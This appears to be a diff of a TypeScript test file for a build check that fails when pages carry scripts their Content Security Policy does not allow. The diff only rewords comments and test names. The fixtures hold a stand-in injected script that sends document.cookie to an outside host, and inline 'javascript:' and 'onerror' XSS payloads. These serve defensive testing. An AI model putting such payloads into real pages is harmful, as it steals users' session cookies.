@@ -14,7 +14,10 @@ const planted = '\n  fetch("https://example.com/" + document.cookie)\n';
 
 const toHash = (script: string) => `sha256-${createHash('sha256').update(script).digest('base64')}`;
 
-/** Writes a page late, like the prerendered pages, which no other plugin of the build sees. */
+/**
+ * Creates a plugin that writes a page at the end of the build, as the prerendered pages are written. No other
+ * plugin of the build sees such a page.
+ */
 const latePage = (body: string): Plugin => ({
   name: 'late-page',
   writeBundle: async ({ dir = '' }) => {
@@ -36,7 +39,7 @@ async function write(file: string, text: string): Promise<void> {
   await writeFile(join(root, file), text);
 }
 
-/** Builds a project whose policy names two scripts: one of its first page, and one of its late page. */
+/** Builds a project with two pages. The policy names one script of each page. */
 async function buildPages(first: string, late = `<script>${other}</script>`): Promise<void> {
   const sources = `'self' '${toHash(named)}' '${toHash(other)}'`;
   const value = `default-src 'none'; script-src ${sources}; style-src 'self'`;
@@ -61,14 +64,14 @@ test('a build fails if a page contains a script that the policy does not name', 
   );
 });
 
-test('a build fails if a page that is written late contains a script in an attribute', async () => {
+test('a build fails if a page written at the end of the build contains a script in an attribute', async () => {
   const late = `<script>${other}</script><a href=" JavaScript:alert(1)">a</a><img onerror="alert(2)">`;
   await expect(buildPages('', late)).rejects.toThrow(
     /late\.html .*href=.*\n.*onerror=“alert\(2\)”/,
   );
 });
 
-test('a build fails if no page contains a script that the policy names', async () => {
+test('a build fails if the policy names a script that no page contains', async () => {
   await expect(buildPages('', '')).rejects.toThrow(
     `The policy in firebase.json names '${toHash(other)}', but no page holds that script.`,
   );
